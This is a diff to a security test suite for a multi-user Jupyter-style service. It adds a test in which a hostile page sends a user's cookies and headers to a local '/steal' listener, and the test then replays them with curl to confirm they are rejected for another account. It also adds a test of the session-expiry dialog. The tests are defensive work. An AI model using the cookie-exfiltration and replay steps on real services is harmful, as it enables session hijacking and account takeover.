@@ -4,6 +4,7 @@ import json
 import pathlib
 import re
 import socket
+import subprocess
 import sys
 
 import pytest
@@ -231,6 +232,7 @@ def test_windows_are_out_of_reach(visit):
     """A hostile page may send its visitor somewhere, no more: neither it nor what it opened can touch the other."""
     scene = visit.scene
     visit.open("ben").close()
+    visit.open("jill").close()
     tab = visit.open("mallory")
     for url in (scene.ben.origin + "/", visit.hydra.dashboard + "/", scene.jill + "/api"):
         before, seen = visit.pages(), len(scene.ben.seen())
@@ -686,3 +688,66 @@ def test_without_logins_a_foreign_page_is_refused(open_house):
             framed = {**headers, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": dest}
             assert request(anna.port, path="/", headers=framed).status == 403 and request(hydra.dashboard_port, path=GROUP + "/devices", headers=framed).status == 403
     assert anna.seen()[seen:] == [] and hydra.admin().get("openhydrausers/evil").status_code == 404
+
+
+# ---- whoever else receives a pass, and a session that is over ---------------------------------------------------------------------
+
+LISTENER = """
+import http.server, json, sys
+class Handler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        print(json.dumps(self.headers.items()), flush=True)
+        self.send_response(204)
+        self.end_headers()
+    def log_message(self, *args): pass
+server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
+print(server.server_address[1], flush=True)
+server.serve_forever()
+"""
+
+
+def test_a_pass_is_of_no_use_to_another_user_of_the_machine(scene, visit):
+    """A hostile page asks for an image where an ordinary local user listens: all passes are sent, with every other header."""
+    stranger = {"user": 65534, "group": 65534, "extra_groups": []}
+    visit.open("jill").close()
+    tab = visit.open("mallory")
+    listener = subprocess.Popen([sys.executable, "-c", LISTENER], stdout=subprocess.PIPE, text=True, cwd="/", **stranger)
+    try:
+        port = int(listener.stdout.readline())
+        tab.run(f"new Image().src = 'http://127.0.0.1:{port}/steal'; return 1")
+        stolen = {name: value for name, value in json.loads(listener.stdout.readline()) if name not in ("Host", "Connection")}
+    finally:
+        listener.kill()
+        listener.wait()
+    name = f"-env-{scene.jill.rsplit(':', 1)[1].rstrip('/')}="
+    assert name in stolen["Cookie"], stolen
+    headers = [word for header, value in stolen.items() if not header.startswith("Sec-Fetch") for word in ("-H", f"{header}: {value}")]
+
+    def curl(*options, **who):
+        return subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", *headers, *options, scene.jill + "/api/contents"],
+                              capture_output=True, text=True, cwd="/", **who).stdout
+
+    assert curl(**stranger) == "401"
+    assert curl("-X", "POST", **stranger) == "401"
+    assert curl() == "200", "the browser's own user, as it is here"
+
+
+def test_jupyter_says_where_to_log_in(scene, visit):
+    """A session that is over while somebody works: the words are in Jupyter's own dialog, and the way that they say leads back."""
+    session, base = scene.hydra.environment(scene.hydra.login("jill", "password"), "jill")
+    assert session.put(f"{base}/api/contents/note.txt", json={"type": "file", "format": "text", "content": "a note"},
+                       headers={"Origin": base}).status_code in (200, 201)
+    visit.open("jill").close()
+    tab = visit.browser.tab(f"{scene.jill}/lab/tree/note.txt?reset")
+    editor = "document.querySelector('.jp-FileEditor .cm-content')"
+    wait_until(lambda: tab.run(f"return {editor}?.innerText.includes('a note') ?? false"), 120, what="the editor")
+    assert visit.ask("/auth/logout", "POST") == 204
+
+    def save():
+        tab.run(f"{editor}.focus(); document.execCommand('insertText', false, 'x')")
+        for kind in ("rawKeyDown", "keyUp"):
+            tab.call("Input.dispatchKeyEvent", type=kind, modifiers=2, key="s", code="KeyS", windowsVirtualKeyCode=83)
+        return tab.run("return document.querySelector('.jp-Dialog')?.innerText ?? ''")
+
+    said = wait_until(lambda: (text := save()) and "登录已结束" in text and text, 60, every=1, what="the dialog")
+    assert f"{scene.hydra.dashboard}/open?to=" in said and "nothing is lost" in said
